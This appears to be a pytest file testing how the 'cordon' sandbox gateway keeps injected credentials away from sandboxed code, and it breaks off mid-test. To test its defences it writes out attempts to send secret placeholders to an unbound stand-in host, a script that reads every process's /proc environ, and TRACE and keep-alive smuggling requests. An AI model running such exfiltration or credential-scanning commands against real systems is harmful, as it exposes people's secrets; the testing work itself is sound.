"""
Credentials that never enter the sandbox (`--secret`, policy `secrets:`).

The servers of test_egress.py stand in for the internet on 127.0.0.2: a.test
and b.test are the hosts secrets are bound to (plain HTTP and HTTPS each),
other.test is allowed but bound to nothing, and an "internal" service on
127.0.0.1 must never see a connection. cordon itself runs with SSL_CERT_FILE
naming the test CA, so that its gateway trusts the HTTPS servers; the sandbox
trusts the gateway's per-run CA. /headers echoes Authorization and X-Api-Key.
"""

import json
import os
import re
import secrets
import ssl
import subprocess
import time

import pytest

import egress_servers as es
from conftest import assert_cordon_refused

EG = "/eg"
NAMES = ("a.test", "b.test", "other.test")
PLACEHOLDER = re.compile(r"cordon-placeholder-[0-9a-f]{32}")
CURL = "curl -sS --max-time 20"

# In the sandbox: python3 /eg/req.py '[[URL, {HEADER: VALUE}], ...]'. "{A}" in
# a URL or a value is the sandbox's $A. One JSON line per request.
REQ = """
import json, os, sys, urllib.error, urllib.request
for url, hdrs in json.loads(sys.argv[1]):
    url = url.format_map(os.environ)
    hdrs = {k: v.format_map(os.environ) for k, v in hdrs.items()}
    try:
        r = urllib.request.urlopen(urllib.request.Request(url, headers=hdrs), timeout=20)
        st, h, b = r.status, r.headers, r.read()
    except urllib.error.HTTPError as e:
        st, h, b = e.code, e.headers, e.read()
    except OSError as e:
        print(json.dumps({"error": repr(e)}), flush=True)
        continue
    print(json.dumps({"status": st, "denied": h.get("X-Cordon-Denied"),
                      "body": b.decode("latin-1")}), flush=True)
"""

# In the sandbox: python3 /eg/scan.py REVERSED-VALUE PLACEHOLDER-VAR. Reads
# every readable file of the sandbox's view that could hold the value and
# prints which hold the value (never written in its argv: it gets it reversed)
# and which hold the placeholder (the control: the scan does see things).
SCAN = """
import json, os, sys
val, ph = sys.argv[1][::-1].encode(), os.environ[sys.argv[2]].encode()
out = {"files": 0, "value": [], "placeholder": []}
def scan(p):
    if os.path.islink(p):
        return  # /proc/self/fd/1 is our stdout pipe: reading it would block
    try:
        with open(p, "rb") as f:
            data = f.read(8 << 20)
    except OSError:
        return
    out["files"] += 1
    out["value"] += [p] if val in data else []
    out["placeholder"] += [p] if ph in data else []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        scan(f"/proc/{pid}/cmdline")
        scan(f"/proc/{pid}/environ")
for top in ("/etc", "/tmp", "/workspace", "/proc/self"):
    for dp, dns, fns in os.walk(top):
        for f in fns:
            scan(os.path.join(dp, f))
out["env"] = any(val in f"{k}={v}".encode() for k, v in os.environ.items())
print(json.dumps(out))
"""


def sign(d, stem, name, ca="ca"):
    """A server certificate for NAME signed by D/CA.pem: D/STEM.pem, D/STEM.key."""
    def ssl_(*args):
        subprocess.run(["openssl", *args], cwd=d, check=True, capture_output=True)
    ssl_("req", "-newkey", "rsa:2048", "-nodes", "-keyout", f"{stem}.key", "-out",
         f"{stem}.csr", "-subj", f"/CN={name}")
    (d / f"{stem}.cnf").write_text(f"subjectAltName=DNS:{name}\n")
    ssl_("x509", "-req", "-in", f"{stem}.csr", "-CA", f"{ca}.pem", "-CAkey", f"{ca}.key",
         "-CAcreateserial", "-out", f"{stem}.pem", "-days", "2", "-extfile", f"{stem}.cnf")
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(d / f"{stem}.pem", d / f"{stem}.key")
    return ctx


class Net:
    def __init__(self, d):
        self.dir = d
        self.ca, cert, key = es.make_ca(d, list(NAMES), ["127.0.0.2"])
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        ctx.load_cert_chain(cert, key)
        self.a_web, self.a_tls = es.Server("a", "127.0.0.2"), es.Server("a", "127.0.0.2", ctx)
        self.b_web, self.b_tls = es.Server("b", "127.0.0.2"), es.Server("b", "127.0.0.2", ctx)
        self.o_web = es.Server("other", "127.0.0.2")
        self.o_tls = es.Server("other", "127.0.0.2", ctx)
        self.internal = es.Server("internal", "127.0.0.1")
        # a.test with a certificate cordon does not trust (another CA), and
        # with one from the trusted CA but for another name.
        rogue = d / "rogue"
        rogue.mkdir()
        es.make_ca(rogue, ["a.test"], ["127.0.0.2"])
        rctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        rctx.load_cert_chain(rogue / "srv.pem", rogue / "srv.key")
        self.untrusted = es.Server("untrusted", "127.0.0.2", rctx)
        self.wrong_name = es.Server("wrong", "127.0.0.2", sign(d, "wrong", "elsewhere.test"))
        (d / "req.py").write_text(REQ)
        (d / "scan.py").write_text(SCAN)
        for f in ("ca.pem", "req.py", "scan.py"):
            os.chmod(d / f, 0o644)

    def servers(self):
        return (self.a_web, self.a_tls, self.b_web, self.b_tls, self.o_web, self.o_tls,
                self.internal, self.untrusted, self.wrong_name)

    def url(self, srv, path="/headers"):
        host = {"a": "a.test", "b": "b.test", "other": "other.test"}.get(srv.name, "a.test")
        return f"{'https' if srv.tls else 'http'}://{host}:{srv.port}{path}"

    @staticmethod
    def hosts(*srvs, name="a.test"):
        return ",".join(f"{name}:{s.port}" for s in srvs)

    def opts(self, *extra):
        o = ["--allow-private", "127.0.0.2/32", "--ro", f"{self.dir}:{EG}", "-t", "60s",
             "--allow", f"other.test:{self.o_web.port}",
             "--allow", f"other.test:{self.o_tls.port}"]
        for n in NAMES:
            o += ["--resolve", f"{n}=127.0.0.2"]
        return o + list(extra)


@pytest.fixture(scope="module")
def net():
    with es.scratch_net("cit-secrets-", Net) as n:
        yield n


@pytest.fixture(autouse=True)
def untouched(net):
    """Fresh counters per test; the internal service sees nothing."""
    for s in net.servers():
        s.reset()
    yield
    assert net.internal.count() == 0, net.internal.requests


def values(*names):
    return {n: f"real-{n}-" + secrets.token_hex(16) for n in names}


def inside(cordon, net, cmd, *opts, vals=None, **kw):
    """CMD in a sandbox with the gateway; cordon's env has VAL_<NAME> for each
    value and SSL_CERT_FILE naming the test CA."""
    env = {"SSL_CERT_FILE": str(net.ca)}
    env.update({f"VAL_{k}": v for k, v in (vals or {}).items()})
    return cordon.run(cmd, *net.opts(*opts), env=env, **kw)


def req(cordon, net, reqs, *opts, **kw):
    r = inside(cordon, net, ["python3", f"{EG}/req.py", json.dumps(reqs)], *opts, **kw)
    assert r.status == 0, r
    return [json.loads(l) for l in r.out.splitlines()], r


def auth(srv):
    return [q["headers"].get("Authorization") for q in srv.requests]


def assert_no_value(val, r, log=None, echoed=False):
    """Nowhere in what cordon gave back: stderr, result, audit log, and stdout
    unless a server ECHOED it back (the server's doing, not cordon's)."""
    v = val.encode()
    assert v not in r.stderr and (echoed or v not in r.stdout), r
    assert val not in json.dumps(r.result), r.result
    if log is not None:
        assert v not in log.read_bytes()


def assert_refused(o, rule, r=None):
    assert o.get("status") == 403 and o.get("denied") == rule, f"{o}\n{r or ''}"


# --- the value reaches the bound server, the sandbox holds a placeholder -----


def test_value_reaches_bound_server_http_and_https(cordon, net):
    v = values("A")
    log = cordon.hostdir("audit") / "audit.log"
    sec = f"A=env:VAL_A@{net.hosts(net.a_web, net.a_tls)}"
    py = json.dumps([[net.url(s), {"X-Api-Key": "{A}"}] for s in (net.a_web, net.a_tls)])
    cmd = ["sh", "-c",
           f'echo "$A"; for u in {net.url(net.a_web)} {net.url(net.a_tls)}; do '
           f'{CURL} -H "Authorization: Bearer $A" $u || exit 9; done; '
           f"python3 {EG}/req.py '{py}'"]
    r = inside(cordon, net, cmd, "--secret", sec, "--audit", log, vals=v)
    assert r.status == 0, r
    lines = r.out.splitlines()
    assert PLACEHOLDER.fullmatch(lines[0]), r
    # The servers echo what they got, but the gateway takes the value out of
    # their answers again: the sandbox reads its placeholder in the echo.
    ph = lines[0]
    assert lines[1:5] == [f"Authorization=Bearer {ph}", "X-Api-Key="] * 2, r
    got = [json.loads(l)["body"] for l in lines[5:]]
    assert got == [f"Authorization=\nX-Api-Key={ph}\n"] * 2, r
    for srv in (net.a_web, net.a_tls):
        assert auth(srv) == [f"Bearer {v['A']}", None], srv.requests
        assert srv.requests[1]["headers"]["X-Api-Key"] == v["A"]
        assert lines[0] not in repr(srv.requests)
    recent = r.result["egress"]["recent"]
    # Reported as connections end: an intercepted answer may finish later.
    assert sorted(d["port"] for d in recent) == \
        sorted([net.a_web.port, net.a_tls.port] * 2), recent
    for d in recent:
        assert d["allowed"] and d["status"] == 200 and d["secrets"] == ["A"], d
        assert d["scrubbed"] == ["A"], d
        assert d.get("intercepted", False) == (d["port"] == net.a_tls.port), d
    events = [json.loads(l) for l in log.read_text().splitlines()]
    dec = [e for e in events if e["type"] == "egress.decision"]
    assert sorted((e["secrets"], e.get("intercepted", False)) for e in dec) == \
        sorted([(["A"], False), (["A"], True)] * 2), dec
    assert [e["scrubbed"] for e in dec] == [["A"]] * 4, dec
    assert_no_value(v["A"], r, log)
    again = inside(cordon, net, ["sh", "-c", 'echo "$A"'], "--secret", sec, vals=v)
    assert again.status == 0 and PLACEHOLDER.fullmatch(again.out.strip()), again
    assert again.out.strip() != lines[0]


def test_value_nowhere_in_the_sandbox_view(cordon, net):
    v = values("A")
    log = cordon.hostdir("audit") / "audit.log"
    ws = cordon.hostdir("ws")
    sec = f"A=env:VAL_A@{net.hosts(net.a_web, net.a_tls)}"
    # Use the secret (swapped by the gateway, answers without echo), try to
    # send it elsewhere (the refusal's message is in the view too), then scan.
    cmd = ["sh", "-c",
           f'for u in {net.url(net.a_web, "/x")} {net.url(net.a_tls, "/x")}; do '
           f'{CURL} -H "Authorization: Bearer $A" -o /tmp/out.$$ $u || exit 9; done; '
           f'{CURL} -H "Authorization: Bearer $A" {net.url(net.o_web)} >/workspace/refused; '
           f"env >/tmp/env.txt; cat /proc/self/environ >/workspace/environ 2>/dev/null; "
           f"python3 {EG}/scan.py {v['A'][::-1]} A"]
    r = inside(cordon, net, cmd, "--secret", sec, "--audit", log, "-w", ws, vals=v)
    assert r.status == 0, r
    out = json.loads(r.out)
    assert out["value"] == [] and out["env"] is False, out
    assert out["files"] > 100, out
    for f in ("/proc/self/environ", "/tmp/env.txt", "/workspace/environ"):
        assert f in out["placeholder"], out
    assert auth(net.a_web) == auth(net.a_tls) == [f"Bearer {v['A']}"]
    assert net.o_web.count() == 0
    assert_no_value(v["A"], r, log)
    assert not any(v["A"].encode() in f.read_bytes() for f in ws.rglob("*") if f.is_file())


# --- exfiltration -------------------------------------------------------------


def test_placeholder_to_other_hosts_is_refused(cordon, net):
    v = values("A")
    log = cordon.hostdir("audit") / "audit.log"
    sec = f"A=env:VAL_A@{net.hosts(net.a_web)}"
    reqs = [[net.url(net.o_web), {"Authorization": "Bearer {A}"}],
            [net.url(net.o_web, "/q?token={A}"), {}],
            [net.url(net.o_web), {"X-Anything": "x{A}x"}],
            # by a name: loopback itself is exempt from the proxy (NO_PROXY)
            [f"http://internal.test:{net.internal.port}/", {"Authorization": "Bearer {A}"}],
            [net.url(net.a_web), {"Authorization": "Bearer {A}"}]]
    out, r = req(cordon, net, reqs, "--secret", sec, "--audit", log, vals=v)
    for o in out[:3]:
        assert_refused(o, "exfil:A", r)
        assert o["body"].count("\n") == 1 and v["A"] not in o["body"], o
    assert out[3]["status"] == 403, out
    assert out[3]["denied"] in ("exfil:A", "not_allowed", "ssrf:loopback"), out
    assert out[4]["status"] == 200 and out[4]["denied"] is None, out
    assert re.fullmatch(f"Authorization=Bearer {PLACEHOLDER.pattern}\nX-Api-Key=\n",
                        out[4]["body"]), out
    assert net.o_web.count() == 0, net.o_web.requests
    events = [json.loads(l) for l in log.read_text().splitlines()]
    dec = [e for e in events if e["type"] == "egress.decision"]
    assert [(e["allowed"], e["host"], e["rule"], e["status"]) for e in dec[:3]] == \
        [(False, "other.test", "exfil:A", 403)] * 3, dec
    assert [d["rule"] for d in r.result["egress"]["recent"][:3]] == ["exfil:A"] * 3
    assert r.result["egress"]["refused"] == 4, r
    assert_no_value(v["A"], r, log)


def test_https_to_unbound_host_is_tunnelled_untouched(cordon, net):
    # HTTPS to a host no secret is bound to is a plain CONNECT tunnel: the
    # gateway cannot see the placeholder inside it, so it cannot refuse it.
    # What matters is that the value is not what arrives: the placeholder is.
    v = values("A")
    sec = f"A=env:VAL_A@{net.hosts(net.a_web)}"
    cmd = ["sh", "-c", f'{CURL} --cacert {EG}/ca.pem -H "Authorization: Bearer $A" '
                       f'{net.url(net.o_tls)}; echo "$A"']
    r = inside(cordon, net, cmd, "--secret", sec, vals=v)
    assert r.status == 0, r
    ph = r.out.splitlines()[-1]
    assert auth(net.o_tls) == [f"Bearer {ph}"], net.o_tls.requests
    (d,) = r.result["egress"]["recent"]
    assert d["method"] == "CONNECT" and not d.get("intercepted") and not d.get("secrets"), d
    assert_no_value(v["A"], r)


def test_two_secrets_each_to_its_own_host(cordon, net):
    v = values("A", "B")
    opts = ["--secret", f"A=env:VAL_A@{net.hosts(net.a_web, net.a_tls)}",
            "--secret", f"B=env:VAL_B@{net.hosts(net.b_web, net.b_tls, name='b.test')}"]
    reqs = [[net.url(net.a_web), {"Authorization": "Bearer {A}"}],
            [net.url(net.b_web), {"Authorization": "Bearer {B}"}],
            [net.url(net.a_tls), {"X-Api-Key": "{A}"}],
            [net.url(net.b_tls), {"X-Api-Key": "{B}"}],
            [net.url(net.b_web), {"Authorization": "Bearer {A}"}],
            [net.url(net.a_web), {"X-Api-Key": "{B}"}],
            [net.url(net.b_tls), {"Authorization": "Bearer {A}"}]]
    out, r = req(cordon, net, reqs, *opts, vals=v)
    assert [o["status"] for o in out[:4]] == [200] * 4, out
    assert_refused(out[4], "exfil:A", r)
    assert_refused(out[5], "exfil:B", r)
    assert_refused(out[6], "exfil:A", r)  # inside the intercepted tunnel to b.test
    assert auth(net.a_web) == [f"Bearer {v['A']}"] and auth(net.b_web) == [f"Bearer {v['B']}"]
    assert [q["headers"]["X-Api-Key"] for q in net.a_tls.requests] == [v["A"]]
    assert [q["headers"]["X-Api-Key"] for q in net.b_tls.requests] == [v["B"]]
    # Decisions are reported as connections end, so their order may differ
    # from the requests' (an intercepted answer is still leaving): compare
    # each allowed request's host and the secret it carried.
    got = sorted((d["port"], d.get("secrets")) for d in r.result["egress"]["recent"]
                 if d["allowed"])
    want = sorted([(net.a_web.port, ["A"]), (net.b_web.port, ["B"]),
                   (net.a_tls.port, ["A"]), (net.b_tls.port, ["B"])])
    assert got == want, r.result["egress"]
    for val in v.values():
        assert_no_value(val, r)


# --- sources, ttl, upstream trust, a missing value ----------------------------


def policy(cordon, text):
    p = cordon.hostdir() / "policy.yaml"
    p.write_text("version: 1\n" + text)
    os.chown(p, cordon.ident.uid, cordon.ident.gid)
    return ["-p", p]


def test_file_source_without_trailing_newline(cordon, net, host_secret):
    path, value = host_secret  # 0600, the value and a newline
    hosts = f'["a.test:{net.a_web.port}", "a.test:{net.a_tls.port}"]'
    pol = policy(cordon, f"secrets:\n  - name: T\n    from: file:{path}\n    hosts: {hosts}\n")
    reqs = [[net.url(s), {"Authorization": "Bearer {T}"}] for s in (net.a_web, net.a_tls)]
    out, r = req(cordon, net, [*reqs, [net.url(net.o_web), {"X-Api-Key": "{T}"}]], *pol)
    for o in out[:2]:
        assert re.fullmatch(f"Authorization=Bearer {PLACEHOLDER.pattern}\nX-Api-Key=\n",
                            o["body"]), out
    assert auth(net.a_web) == auth(net.a_tls) == [f"Bearer {value}"]
    assert_refused(out[2], "exfil:T", r)
    assert str(path).encode() not in r.stdout
    assert_no_value(value, r)


def test_ttl_expires_the_placeholder(cordon, net):
    v = values("A")
    # Under TCG the first request alone (curl, a TLS handshake) can take a second.
    ttl = 6 if cordon.level == "microvm" else 1
    pol = policy(cordon, f"secrets:\n  - name: A\n    from: env:VAL_A\n"
                         f"    hosts: [\"a.test:{net.a_web.port}\"]\n    ttl: {ttl}s\n")
    code = (f"{CURL} -o /dev/null -w '%{{http_code}}\\n' -H \"Authorization: Bearer $A\" "
            f"{net.url(net.a_web)}")
    cmd = ["sh", "-c", f"{code}; sleep {ttl + 1}; "
                       f"{code.replace('-o /dev/null', '-D - -o /dev/null')}"]
    r = inside(cordon, net, cmd, *pol, vals=v)
    assert r.status == 0, r
    assert r.out.startswith("200\n"), r
    assert " 403 " in r.out and "X-Cordon-Denied: secret_expired:A\r\n" in r.out, r
    assert auth(net.a_web) == [f"Bearer {v['A']}"]
    recent = r.result["egress"]["recent"]
    assert [d["rule"] for d in recent][-1] == "secret_expired:A", recent
    assert_no_value(v["A"], r)


def untrusted_upstream(cordon, net, which, n=6):
    """N requests with the secret to a bound host whose certificate cordon
    does not accept (the bug below is a race: one try would be flaky)."""
    srv = getattr(net, which)
    v = values("A")
    out, r = req(cordon, net, [[net.url(srv), {"Authorization": "Bearer {A}"}]] * n,
                 "--secret", f"A=env:VAL_A@{net.hosts(srv)}", vals=v)
    return srv, v["A"], out, r


@pytest.mark.parametrize("which", ["untrusted", "wrong_name"])
def test_upstream_not_trusted_never_gets_the_value(cordon, net, which):
    srv, val, out, r = untrusted_upstream(cordon, net, which)
    assert len(out) == 6 and all(o.get("status") != 200 for o in out), (out, r)
    assert val not in json.dumps(out), out
    # Every handshake failed: no request, so no header with the value, was sent.
    assert srv.requests == [], srv.requests
    recent = r.result["egress"]["recent"]
    assert len(recent) == 6, recent
    for d in recent:
        assert (d["rule"], d["status"], d["allowed"]) == ("upstream_tls", 502, False), d
        assert d["intercepted"] and "certificate verify failed" in d["reason"], d
    assert_no_value(val, r)


@pytest.mark.parametrize("which", ["untrusted", "wrong_name"])
def test_upstream_not_trusted_client_gets_502(cordon, net, which):
    _, _, out, r = untrusted_upstream(cordon, net, which)
    for o in out:
        assert o.get("status") == 502 and o.get("denied") == "upstream_tls", (out, r)


@pytest.mark.parametrize("form", ["flag", "policy"])
def test_missing_env_var_is_refused(cordon, net, form):
    var = "CORDON_IT_UNSET_" + secrets.token_hex(4).upper()
    if form == "flag":
        opts = ["--secret", f"A=env:{var}@a.test"]
    else:
        opts = policy(cordon, f"secrets:\n  - name: A\n    from: env:{var}\n"
                              f"    hosts: [a.test]\n")
    t0 = time.monotonic()
    r = cordon.run(["true"], *opts, env={"SSL_CERT_FILE": str(net.ca)})
    assert_cordon_refused(r, var, "not set")
    assert time.monotonic() - t0 < 30
    assert r.stdout == b"", r


def test_policy_names_the_upstream_ca(cordon, net):
    """network.upstream_ca, instead of cordon's SSL_CERT_FILE, is what the
    intercepted server is verified against."""
    v = values("A")
    pol = cordon.hostdir("pol") / "policy.yaml"
    pol.write_text(f"version: 1\nnetwork:\n  upstream_ca: {net.ca}\n")
    sec = f"A=env:VAL_A@{net.hosts(net.a_tls)}"
    cmd = ["sh", "-c", f'{CURL} -H "Authorization: Bearer $A" {net.url(net.a_tls)}']
    env = {f"VAL_A": v["A"]}  # no SSL_CERT_FILE: only the policy names the test CA
    r = cordon.run(cmd, "-p", pol, *net.opts("--secret", sec), env=env)
    assert r.status == 0 and PLACEHOLDER.fullmatch(r.out.splitlines()[0][21:]), r
    assert auth(net.a_tls) == [f"Bearer {v['A']}"], net.a_tls.requests


# --- the value must not come back in an answer (issue 9, section 5) ------------

# In the sandbox: python3 /eg/raw.py '[[TLS, HOST, PORT, DATA], ...]': DATA
# ("{A}" is the sandbox's $A) sent as is through the gateway (inside a CONNECT
# tunnel when TLS, trusting the run's CA), the whole answer read until the
# gateway closes; one JSON string (latin-1) per request.
RAW = """
import json, os, socket, ssl, sys
def send(tls, host, port, data):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    if tls:
        s.sendall(f"CONNECT {host}:{port} HTTP/1.1\\r\\nHost: {host}:{port}\\r\\n\\r\\n".encode())
        head = b""
        while b"\\r\\n\\r\\n" not in head:
            b = s.recv(1)
            if not b:
                return head
            head += b
        if b" 200 " not in head.split(b"\\r\\n")[0]:
            return head
        s = ssl.create_default_context().wrap_socket(s, server_hostname=host)
    s.sendall(data)
    out = b""
    try:
        while True:
            b = s.recv(65536)
            if not b:
                break
            out += b
    except (OSError, ssl.SSLError) as e:
        out += f"<{type(e).__name__}>".encode()
    return out
for tls, host, port, data in json.loads(sys.argv[1]):
    data = data.format_map(os.environ).encode("latin-1")
    print(json.dumps(send(tls, host, port, data).decode("latin-1")), flush=True)
"""


@pytest.fixture(scope="module")
def raw_client(net):
    (net.dir / "raw.py").write_text(RAW)
    os.chmod(net.dir / "raw.py", 0o644)


def raw(cordon, net, reqs, *opts, **kw):
    """REQS ([TLS, SERVER, DATA]) through raw.py; the answers, and the run."""
    spec = [[srv.tls is not None, "a.test" if srv.name == "a" else f"{srv.name}.test",
             srv.port, data] for _, srv, data in ((None, *q[1:]) for q in reqs)]
    r = inside(cordon, net, ["python3", f"{EG}/raw.py", json.dumps(spec)], *opts, **kw)
    assert r.status == 0, r
    return [json.loads(l) for l in r.out.splitlines()], r


def get(srv, path, *headers, method="GET", version="1.1", body=None):
    """A request for SRV's PATH: absolute-form for plain HTTP, origin-form in a tunnel."""
    host = f"{'a' if srv.name == 'a' else srv.name}.test:{srv.port}"
    target = path if srv.tls else f"http://{host}{path}"
    lines = [f"{method} {target} HTTP/{version}", f"Host: {host}", *headers]
    return [None, srv, "\r\n".join(lines) + "\r\n\r\n" + (body or "")]


def parse(answer):
    """(status line, {field: value}, body, trailer) of one answer, de-chunked;
    asserts its framing is right for the client."""
    head, sep, rest = answer.partition("\r\n\r\n")
    assert sep, answer
    lines = head.split("\r\n")
    hdrs = {k.strip().lower(): v.strip() for k, _, v in (l.partition(":") for l in lines[1:])}
    if hdrs.get("transfer-encoding") == "chunked":
        assert "content-length" not in hdrs, hdrs
        body = ""
        while True:
            size, crlf, rest = rest.partition("\r\n")
            assert crlf, (answer, body)
            n = int(size.split(";")[0], 16)
            if n == 0:
                assert rest.endswith("\r\n"), answer
                return lines[0], hdrs, body, rest
            assert rest[n:n + 2] == "\r\n", answer
            body, rest = body + rest[:n], rest[n + 2:]
    if "content-length" in hdrs:
        assert len(rest) == int(hdrs["content-length"]), answer
    return lines[0], hdrs, rest, ""


def bearer(ph):
    return f"<Bearer {ph}>"


def placeholder_of(r):
    (ph,) = set(PLACEHOLDER.findall(r.out))
    return ph


def test_reflected_value_is_scrubbed_at_every_split(cordon, net, raw_client):
    """An endpoint that echoes the Authorization it got, its body written in
    two reads cut at every offset of the value: by length, chunked (the value
    across two chunks) and until the close; over plain HTTP and inside the
    intercepted tunnel. The sandbox reads its placeholder, never the value."""
    v = values("A")
    sec = f"A=env:VAL_A@{net.hosts(net.a_web, net.a_tls)}"
    n = len(f"<Bearer {v['A']}>")
    auth_h = "Authorization: Bearer {A}"
    cases = [(srv, mode, k) for k in range(n + 1)
             for srv, mode in ((net.a_web, "length"), (net.a_web, "chunked"),
                               (net.a_web, "close"), (net.a_tls, "chunked"),
                               (net.a_tls, "length"))]
    reqs = [get(srv, f"/reflect?pre=%3C&post=%3E&mode={mode}&split={k}&hdr=1&trailer=1",
                auth_h) for srv, mode, k in cases]
    # Some 250 requests in one run: on a loaded machine under TCG, longer than a minute.
    out, r = raw(cordon, net, reqs, "--secret", sec, "-t", "600s", vals=v, timeout=660)
    assert len(out) == len(cases), r
    ph = placeholder_of(r)
    for (srv, mode, k), a in zip(cases, out):
        assert v["A"] not in a, (srv.port, mode, k, a)
        status, hdrs, body, trailer = parse(a)
        assert status == "HTTP/1.1 200 OK" and body == bearer(ph), (mode, k, a)
        assert hdrs["x-echo"] == f"Bearer {ph}" and hdrs["connection"] == "close", a
        if mode != "close":  # re-framed: the length changed, so it is chunked
            assert hdrs["transfer-encoding"] == "chunked", a
        if mode == "chunked":
            assert trailer == f"X-Trailer: Bearer {ph}\r\n\r\n", a
    # The servers did get the value: it was swapped in, then taken out again.
    assert set(auth(net.a_web)) == set(auth(net.a_tls)) == {f"Bearer {v['A']}"}
    for d in r.result["egress"]["recent"]:
        assert d["allowed"] and d["scrubbed"] == ["A"], d
    assert_no_value(v["A"], r)


def test_two_secrets_one_a_prefix_of_the_other(cordon, net, raw_client):
    v = values("A")
    v["B"] = v["A"] + "-and-more"  # A's value is a prefix of B's
    opts = ["--secret", f"A=env:VAL_A@{net.hosts(net.a_web, net.a_tls)}",
            "--secret", f"B=env:VAL_B@{net.hosts(net.a_web, net.a_tls)}"]
    reqs = [get(s, "/headers", "Authorization: Bearer {B}", "X-Api-Key: {A}")
            for s in (net.a_web, net.a_tls)]
    out, r = raw(cordon, net, reqs, *opts, vals=v)
    phs = dict(re.findall(r"(\w+)=(cordon-placeholder-[0-9a-f]{32})", inside(
        cordon, net, ["sh", "-c", 'echo "A=$A B=$B"'], *opts, vals=v).out))
    assert len(phs) == 2
    for a in out:
        _, _, body, _ = parse(a)
        assert re.fullmatch(f"Authorization=Bearer {PLACEHOLDER.pattern}\n"
                            f"X-Api-Key={PLACEHOLDER.pattern}\n", body), a
        assert "-and-more" not in body, a  # B was taken whole, not A and a tail
        assert v["A"] not in a and v["B"] not in a, a
    assert auth(net.a_web) == [f"Bearer {v['B']}"]
    for d in r.result["egress"]["recent"]:
        assert d["scrubbed"] == ["A", "B"], d
    for val in v.values():
        assert_no_value(val, r)


def test_compressed_answer_from_bound_host_is_refused(cordon, net, raw_client):
    """The bound host is asked for an identity body (and the whole of it:
    no Range); one that answers compressed anyway is refused, 502."""
    v = values("A")
    sec = f"A=env:VAL_A@{net.hosts(net.a_web, net.a_tls)}"
    hdrs = ("Authorization: Bearer {A}", "Accept-Encoding: gzip, br", "Range: bytes=0-3",
            "If-Range: x")
    reqs = [get(s, "/reflect?gzip=1", *hdrs) for s in (net.a_web, net.a_tls)]
    out, r = raw(cordon, net, reqs, "--secret", sec, vals=v)
    for a in out:
        status, h, body, _ = parse(a)
        assert status.startswith("HTTP/1.1 502 ") and h["x-cordon-denied"] == "unscannable_answer", a
        assert "cannot be scanned" in body and v["A"] not in a, a
    for srv in (net.a_web, net.a_tls):
        (q,) = srv.requests
        assert q["headers"]["Accept-Encoding"] == "identity", q
        assert "Range" not in q["headers"] and "If-Range" not in q["headers"], q
    assert [d["rule"] for d in r.result["egress"]["recent"]] == ["unscannable_answer"] * 2
    assert_no_value(v["A"], r)


@pytest.mark.parametrize("method", ["TRACE", "TRACK", "trace"])
def test_trace_with_a_secret_is_refused(cordon, net, raw_client, method):
    v = values("A")
    sec = f"A=env:VAL_A@{net.hosts(net.a_web, net.a_tls)}"
    reqs = [get(s, "/", "Authorization: Bearer {A}", method=method)
            for s in (net.a_web, net.a_tls)]
    out, r = raw(cordon, net, reqs, "--secret", sec, vals=v)
    for a in out:
        status, h, _, _ = parse(a)
        assert " 403 " in status and h["x-cordon-denied"] == "trace_with_secret", a
    assert net.a_web.requests == [] and net.a_tls.requests == []
    assert_no_value(v["A"], r)


def test_head_answer_and_http10_client(cordon, net, raw_client):
    """HEAD: the fields are scrubbed and the Content-Length (of a body that is
    not there) kept; an HTTP/1.0 client gets the body delimited by the close."""
    v = values("A")
    sec = f"A=env:VAL_A@{net.hosts(net.a_web, net.a_tls)}"
    reqs = [get(s, "/reflect?hdr=1", "Authorization: Bearer {A}", method="HEAD")
            for s in (net.a_web, net.a_tls)]
    reqs += [get(s, "/reflect?pre=%3C&post=%3E", "Authorization: Bearer {A}", version="1.0")
             for s in (net.a_web, net.a_tls)]
    out, r = raw(cordon, net, reqs, "--secret", sec, vals=v)
    ph = placeholder_of(r)
    for a in out[:2]:
        head, _, rest = a.partition("\r\n\r\n")
        assert rest == "" and v["A"] not in a, a
        assert f"\r\nX-Echo: Bearer {ph}\r\n" in head, a
        assert f"\r\nContent-Length: {len('Bearer ' + v['A'])}\r\n" in head, a
    for a in out[2:]:
        status, h, body, _ = parse(a)
        assert "transfer-encoding" not in h and "content-length" not in h, a
        assert body == bearer(ph) and v["A"] not in a, a
    assert_no_value(v["A"], r)


def test_keep_alive_cannot_ride_past_the_scrubber(cordon, net, raw_client):
    """Two requests on one connection, the first asking to keep it: one
    answer, scrubbed and marked Connection: close; the second never leaves."""
    v = values("A")
    sec = f"A=env:VAL_A@{net.hosts(net.a_web, net.a_tls)}"
    reqs = []
    for s in (net.a_web, net.a_tls):
        one = get(s, "/reflect?pre=1", "Authorization: Bearer {A}", "Connection: keep-alive")
        two = get(s, "/reflect?pre=2", "Authorization: Bearer {A}")
        reqs.append([None, s, one[2] + two[2]])
    out, r = raw(cordon, net, reqs, "--secret", sec, vals=v)
    ph = placeholder_of(r)
    for a in out:
        assert a.count("HTTP/1.") == 1 and v["A"] not in a, a
        _, h, body, _ = parse(a)
        assert body == f"1Bearer {ph}" and h["connection"] == "close", a
    assert [q["path"] for q in net.a_web.requests + net.a_tls.requests] == ["/reflect?pre=1"] * 2
    assert_no_value(v["A"], r)


def chunked(*chunks, trailer="", ext=""):
    return "".join(f"{len(c):x}{ext}\r\n{c}\r\n" for c in chunks) + f"0\r\n{trailer}\r\n"


def test_placeholder_in_a_body_to_an_unbound_host_is_refused(cordon, net, raw_client):
    """A placeholder in a request body, split across chunks at any offset, in
    a chunk extension or in a trailer, to a host its secret is not bound to:
    403 exfil:A, and the host never receives a whole placeholder."""
    v = values("A")
    opts = ["--secret", f"A=env:VAL_A@{net.hosts(net.a_web)}",
            "--secret", f"B=env:VAL_B@{net.hosts(net.b_tls, name='b.test')}"]
    v.update(values("B"))
    te = "Transfer-Encoding: chunked"
    ph_len = len("cordon-placeholder-") + 32
    bodies = [("Content-Length: 60", "x" * 4 + "{A}" + "y" * 5)]
    for k in (0, 1, 19, 25, ph_len - 1, ph_len):
        # "{A}" is filled in the sandbox, so the split is made there: @K@.
        bodies.append((te, f"@SPLIT{k}@"))
    bodies += [(te, chunked("abc", trailer="X-T: {A}\r\n")),
               (te, chunked("abc", ext=";t={A}"))]
    reqs = []
    for hdr, body in bodies:
        for s in (net.o_web, net.b_tls):
            reqs.append(get(s, "/echo", hdr, method="POST", body=body))
    # The split bodies need the placeholder's text: build them in the sandbox.
